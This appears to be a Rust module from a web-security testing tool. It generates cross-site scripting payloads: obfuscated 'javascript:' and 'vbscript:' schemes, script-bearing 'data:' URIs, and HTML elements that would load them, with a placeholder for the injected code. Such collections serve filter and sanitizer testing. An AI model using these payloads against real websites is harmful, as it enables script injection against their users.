//! Addresses that run, in every disguise: what a browser throws away or decodes before it looks for the scheme.

/// Spellings of `javascript:`. The URL Standard drops tabs, ends of lines, and what stands before it that isn't seen.
const SCHEMES: &[&str] = &[
    "javascript:",
    "JAVASCRIPT:",
    "JavaScript:",
    "jAvAsCrIpT:",
    " javascript:",
    "\tjavascript:",
    "\njavascript:",
    "\r\njavascript:",
    "\u{c}javascript:",
    "\u{1}javascript:",
    "\u{1f}javascript:",
    "\0javascript:",
    "\u{a0}javascript:",
    "\u{feff}javascript:",
    "\u{200b}javascript:",
    "java\tscript:",
    "java\nscript:",
    "java\r\nscript:",
    "java\u{c}script:",
    "java\0script:",
    "j\ta\tv\ta\ts\tc\tr\ti\tp\tt:",
    "javascript\t:",
    "javascript\n:",
    "javascript\r:",
    "javascript :",
    "javascript\0:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3A;",
    "javascript&#0000058",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#x6A&#x61;vascript:",
    "jav&Tab;ascript:",
    "jav&NewLine;ascript:",
    "java&#10;script:",
    "&#1;javascript:",
    "%6aavascript:",
    "javascript%3a",
    "java%0ascript:",
    "javascript\u{ff1a}",
    "\u{ff4a}avascript:",
    "javaſcript:",
    "javascr\u{131}pt:",
    "x:javascript:",
    "feed:javascript:",
    "view-source:javascript:",
    "url:javascript:",
    "jar:javascript:",
    "livescript:",
    "mocha:",
    "vbscript:",
    "VBScript:",
    "vb\tscript:",
    "javascript::",
    "//javascript:",
    "/javascript:",
    "./javascript:",
    "?javascript:",
    "#javascript:",
    "\\javascript:",
    "javascript:\u{1}",
    "javascript:\\u0074\\u006f\\u0070,",
];

/// What stands behind it: `c` is the code.
const REST: &[&str] = &[
    "@",
    " @",
    "//%0a@",
    "//\n@",
    "//\u{2028}@",
    "/*x*/@",
    "void(@)",
    "'<script>@</script>'",
    "%74op.%68it(1)||@",
    "(()=>@)()",
    "\"\\x74\",@",
    "//example.com/%0d%0a@//",
    "alert;@",
    "`${@}`",
];

/// Addresses that are documents themselves.
const DOCUMENTS: &[&str] = &[
    "data:text/html,<script>@</script>",
    "DATA:text/html,<script>@</script>",
    "data:text/html;charset=utf-8,<svg onload=@>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDApPC9zY3JpcHQ+",
    "data:,<script>@</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@</x:script>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@</x:script>",
    " data:text/html,<img src=x onerror=@>",
    "da\tta:text/html,<img src=x onerror=@>",
    "data\n:text/html,<img src=x onerror=@>",
    "data:text/javascript,@",
    "data:;,<script>@</script>",
    "blob:null/<script>@</script>",
    "filesystem:http://x/<script>@</script>",
    "about:blank#<script>@</script>",
    "srcdoc:<script>@</script>",
    "mhtml:http://x!<script>@</script>",
    "//x\"onerror=@//",
    "http://x/\"onload=@ x=\"",
    "https://x/'><script>@</script>",
    "mailto:\"><script>@</script>",
    "tel:<script>@</script>",
    "/x?y=<script>@</script>",
    "#<img src=x onerror=@>",
    "?\"><svg onload=@>",
    "x.png\" onerror=\"@",
    "x.png' onerror='@",
    "x.png onerror=@",
    "http://user:javascript@x/@",
    "javascript.png?@",
    "a:b:javascript:@",
    "\u{202e}:tpircsavaj@",
];

/// Elements that would follow them.
const PLACES: &[&str] = &[
    "<a href=\"U\" id=x autofocus onfocus=@>x</a>",
    "<iframe src=\"U\"></iframe>",
    "<iframe src='U'></iframe>",
    "<object data=\"U\"></object>",
    "<embed src=\"U\">",
    "<form action=\"U\"><button>x</button></form>",
    "<button formaction=\"U\" form=x>x</button>",
    "<svg><a xlink:href=\"U\"><text>x</text></a></svg>",
    "<math href=\"U\">x</math>",
    "<meta http-equiv=refresh content=\"0;url=U\">",
    "<base href=\"U//\">",
    "<link rel=stylesheet href=\"U\">",
    "<iframe srcdoc=\"<script>@</script>\"></iframe>",
    "<svg><use href=\"U\"/></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=\"U\"/><a id=x><text>x</text></a></svg>",
    "<frameset><frame src=\"U\"></frameset>",
    "<portal src=\"U\"></portal>",
    "<video poster=\"U\"></video>",
    "<table background=\"U\"><td>x</table>",
    "<img src=\"U\">",
    "<input type=image src=\"U\">",
    "<bgsound src=\"U\">",
];

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for scheme in SCHEMES {
        all.push(format!("{scheme}@"));
    }
    for scheme in &SCHEMES[..8] {
        for rest in REST {
            all.push(format!("{scheme}{rest}"));
        }
    }
    all.extend(DOCUMENTS.iter().map(|document| (*document).to_owned()));
    for place in PLACES {
        for url in [
            "javascript:@",
            "java&Tab;script:@",
            "data:text/html,&lt;script&gt;@&lt;/script&gt;",
        ] {
            all.push(place.replace('U', url));
        }
    }
    all
}
